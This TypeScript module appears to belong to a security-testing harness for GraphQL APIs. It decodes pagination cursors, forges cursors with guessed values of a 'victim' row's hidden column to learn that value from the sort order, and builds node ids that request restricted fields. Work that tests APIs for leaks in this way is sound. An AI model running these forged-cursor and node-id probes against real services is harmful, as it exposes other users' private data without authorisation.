/** Node ids and cursors: opaque to clients, and base64 to anybody else. */
import type { Family } from '../channels/channel.ts';
import { decoded } from './sort.ts';

export const identifier: Family = {
  name: 'node ids and cursors',
  async graphql(scene) {
    const { list, orderBy, type } = scene.names;
    const among = `filter: { id: { in: [${scene.victims.map(({ id }) => `"${id}"`).join(', ')}] } }`;
    for (const order of orderBy) {
      const { data, text } = await scene.ask(`{ ${list}(first: 50, orderBy: [${order}], ${among}) { pageInfo { startCursor endCursor } edges { cursor node { id nodeId } } } }`);
      scene.dump({ text: decoded(text) });
      // a cursor of the attacker's own making, which asks for what comes after a value
      const cursor = (data as Record<string, { pageInfo: { endCursor: string } } | undefined> | null)?.[list]?.pageInfo.endCursor;
      const parts = cursor === undefined ? [] : (JSON.parse(Buffer.from(cursor, 'base64').toString()) as unknown[]);
      if (parts.length < 3) continue; // an id alone, which is no secret
      for (const target of scene.targets.slice(0, 2)) {
        const forged = Buffer.from(JSON.stringify([parts[0], scene.victims[0]!.guesses.get(target)![0], ...parts.slice(2)])).toString('base64');
        scene.dump(await scene.ask(`query ($after: Cursor!) { ${list}(first: 5, orderBy: [${order}], after: $after, ${among}) { edges { cursor } } }`, { after: forged }));
      }
    }
    for (const victim of scene.victims) {
      const fields = scene.targets.map(({ column }) => scene.names.field(column)).filter((name) => scene.names.fields.has(name)).join(' ');
      const nodeId = Buffer.from(JSON.stringify([type, victim.id])).toString('base64');
      const reply = await scene.ask(`query ($nodeId: ID!) { node(nodeId: $nodeId) { nodeId ... on ${type} { id ${fields} } } }`, { nodeId }, scene.targets.length);
      for (const target of scene.targets) scene.claim(target, victim, decoded(reply.text));
    }
  },
};
